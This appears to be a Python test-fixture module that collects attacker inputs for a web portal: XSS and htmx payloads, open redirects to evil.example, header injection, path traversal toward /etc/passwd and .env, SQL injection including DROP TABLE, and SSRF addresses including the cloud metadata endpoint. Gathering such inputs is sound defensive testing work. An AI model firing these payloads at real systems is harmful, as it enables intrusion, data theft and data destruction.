"""What attackers type, by what they hope for."""

from __future__ import annotations

_RUN = ("alert(1)", "window.ran=1", "top.ran=1")
_TAGS = (
    "<script>{}</script>", "<ScRiPt >{}</ScRiPt>", "<script/x>{}</script>", "<scr<script>ipt>{}</script>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", "<img/src/onerror={}>", "<image src=x onerror={}>",
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x>", "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src='javascript:{}'>", "<video><source onerror={}>", "<audio src=x onerror={}>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>",
    "<marquee onstart={}>", "<a href='javascript:{}'>x</a>",
    "<form><button formaction='javascript:{}'>x</button></form>", "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>", "<math href='javascript:{}'>x</math>", "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='data:text/css,*{{}}' onload={}>", "<style onload={}></style>",
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover="{}', "' onmouseover='{}", '" autofocus onfocus="{}" x="', '"><svg onload={}>',
    "'><svg onload={}>", "`><svg onload={}>", "</title><svg onload={}>", "</textarea><svg onload={}>",
    "</option></select><svg onload={}>", "--><svg onload={}>", "]]><svg onload={}>", "</script><svg onload={}>",
    "</style><svg onload={}>",
)  # fmt: skip
_HTMX = (
    "<p hx-get=/evil hx-trigger=load>x</p>", "<p data-hx-post=/evil data-hx-trigger=load>x</p>",
    '" hx-get="/evil" hx-trigger="load', '<p hx-on:load="{}">x</p>', "<p hx-on--load='window.ran=1'>x</p>",
    "<p hx-vals='js:{{x:window.ran=1}}' hx-get=/evil hx-trigger=load>x</p>",
    '<hx-partial hx-target="#main">x</hx-partial>', "<div hx-swap-oob='true' id=main>x</div>",
)  # fmt: skip
_ODD = (
    "javascript:{}", "JaVaScRiPt:{}", "\tjavascript:{}", "java\tscript:{}", "data:text/html,<script>{}</script>",
    "vbscript:{}", "{{{{7*7}}}}", "{{{{config}}}}", "{{% for x in [1] %}}{}{{% endfor %}}", "${{{}}}",
    "%(title)s%s%%", "{{title}}", "<%= {} %>", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "＜script＞{}＜/script＞", "<\u200bscript>{}</script>",
    "\u202e<script>{}</script>", '#read("/etc/passwd")', '#import "@preview/x:1.0.0"', '#link("javascript:{}")[x]',
    "$ eval {} $", "=cmd|'/C {}'!A0",
)  # fmt: skip

SHAPES = (*_TAGS, *_ATTRIBUTES, *_HTMX, *_ODD)
# 120: every shape once, and the first again with another way to show that something ran.
XSS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [shape.format(_RUN[1]) for shape in SHAPES] + [shape.format(_RUN[n % 2 * 2]) for n, shape in enumerate(SHAPES)]
    )
)[:120]

_HOSTS = ("evil.example", "evil.example/bills", "user@evil.example", "[::1]", "evil.example:80")
REDIRECTS: tuple[str, ...] = (
    *(
        shape.format(host)
        for host in _HOSTS
        for shape in (
            "//{}", "///{}", "\\{}", "/\\{}", "\\\\{}", "https:{}", "https://{}", "HTTP://{}", "/%2f{}", "/%5c{}",
        )
    ),
    "javascript:alert(1)", "data:text/html,x", "/\t/evil.example", "/\n/evil.example",
    "/\r\nLocation: //evil.example", "/%0d%0aLocation:%20//evil.example", "/%252f%252fevil.example",
    "/..//evil.example", "/.%2e/%2e%2e//evil.example", "/%09/evil.example", "//evil.example%2f..",
    "\x00//evil.example", " //evil.example", "/desk/../..//evil.example", "/一//evil",
)  # fmt: skip

HEADERS: tuple[str, ...] = tuple(
    text
    for end in ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\x0b", "\x0c", "\x85", "\0", "\u202e")
    for text in (
        f"x{end}Bcc: victim@evil.example", f"x{end}{end}<script>alert(1)</script>", f"{end}Set-Cookie: sid=evil",
        f'x"{end}X-Evil: 1; filename="evil.exe',
    )
)  # fmt: skip

_UP = ("../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "%252e%252e%252f", "....//", "..;/", "%c0%ae%c0%ae/")
_WANTED = (
    "etc/passwd",
    "portal.env",
    "pyproject.toml",
    "portal/platform/process/settings.py",
    "portal.js",
    "css/../../pyproject.toml",
)
TRAVERSALS: tuple[str, ...] = (
    *(up * 6 + wanted for up in _UP for wanted in _WANTED),
    "/etc/passwd", "//etc/passwd", "%2fetc%2fpasswd", "C:\\windows\\win.ini", "\\\\evil.example\\share",
    "file:///etc/passwd", "con", "nul.js", "aux.css", "portal.js%00.css", "portal.js::$DATA", "portal.js ",
    "portal.js.", "a" * 300, "a/" * 100, "~root", "%7eroot", ".git/config", ".env",
    "portal.js%2f..%2f..%2fpyproject.toml",
)  # fmt: skip

SQL: tuple[str, ...] = (
    "'", "''", "' OR '1'='1", "' OR 1=1 --", "1 OR 1=1", "'; SELECT pg_sleep(3); --", "1; SELECT pg_sleep(3)",
    "' || pg_sleep(3) || '", "1) OR pg_sleep(3) IS NOT NULL --", "' UNION SELECT version() --",
    "1 UNION SELECT usename FROM pg_user", "'; DROP TABLE bill; --", "$$; DROP TABLE bill; $$", "\\'; SELECT 1; --",
    "%27 OR 1=1", "id DESC; SELECT pg_sleep(3)", "(SELECT pg_sleep(3))", "created_at, (SELECT pg_sleep(3))",
    "E'\\x27'", "{}", "{0}", "$1", "%s", "' AND 1=CAST((SELECT current_user) AS int) --", "1::int", "ʼ OR 1=1",
    "＇ OR 1=1 --", "%", "_%", "\\", "';COPY t TO '/tmp/x';--", "00000000-0000-0000-0000-000000000000' OR '1'='1",
    "null", "''''''''", "/**/", "--", "0x27", "CHR(39)", "1e1", "0;--",
)  # fmt: skip

ADDRESSES: tuple[str, ...] = tuple(
    scheme + rest
    for scheme in ("http://", "https://", "ftp://", "gopher://", "file://")
    for rest in (
        "127.0.0.1:1/", "localhost:1/", "169.254.169.254/latest/meta-data/", "[::1]:1/", "0x7f000001:1/",
        "2130706433:1/", "127.1:1/", "evil.example/", "/etc/passwd", "127.0.0.1.nip.io/",
    )
)  # fmt: skip
